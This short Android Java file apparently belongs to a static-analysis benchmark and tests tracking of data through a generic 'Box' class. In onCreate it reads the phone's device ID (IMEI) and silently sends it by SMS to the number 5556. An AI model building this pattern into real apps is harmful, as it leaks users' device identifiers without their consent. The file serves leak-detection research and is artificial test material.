package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** In a box of any type. */
public class Generic extends Case {
    static class Box<T> { private T t; void put(T x) { t = x; } T take() { return t; } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Box<String> b = new Box<>();
        b.put(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        SmsManager.getDefault().sendTextMessage("5556", null, b.take(), null, null);
    }
}
